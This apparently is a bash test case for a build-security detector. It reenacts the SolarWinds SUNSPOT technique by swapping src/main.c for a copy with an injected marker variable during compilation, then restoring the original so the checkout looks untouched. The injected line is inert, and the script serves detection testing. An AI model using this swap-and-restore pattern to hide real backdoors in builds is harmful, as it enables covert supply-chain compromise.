#!/bin/bash
# technique: T1195.002 Compromise Software Supply Chain: Software Supply Chain Compromise (build process), T1565.001 Stored Data Manipulation
# reproduces: SolarWinds SUNSPOT (2020): an implant on the build server waited for the compiler, swapped one source file for a backdoored copy (written beside it, then moved over it), and restored the original after the build so the checkout looked untouched
# expect: source-file-modified ^mv$
# expect: source-file-modified ^bash$
# exec-borne: no
#
# The swap happens in a function run from a subshell, the way an implant
# hides it in a build helper; the file is restored before the script
# ends, so the checkout is as it was.
set -u

stash="${BW_ATTACK_TMP:?}/.orig-$$"
target=src/main.c

backdoor() {
	local staged
	staged=$(mktemp "${BW_ATTACK_TMP:?}/cc-XXXXXX")
	cat "$1" >"$stash"
	{
		cat "$1"
		printf '/* injected */ int __attribute__((used)) bw_implant = 1;\n'
	} >"$staged"
	mv -f "$staged" "$1"
}

restore() {
	cat "$stash" >"$1"
	rm -f "$stash"
}

( backdoor "$target" )
cc -c -o "${BW_ATTACK_TMP:?}/main.o" "$target" 2>/dev/null || true
restore "$target"
rm -f "${BW_ATTACK_TMP:?}/main.o"
exit 0
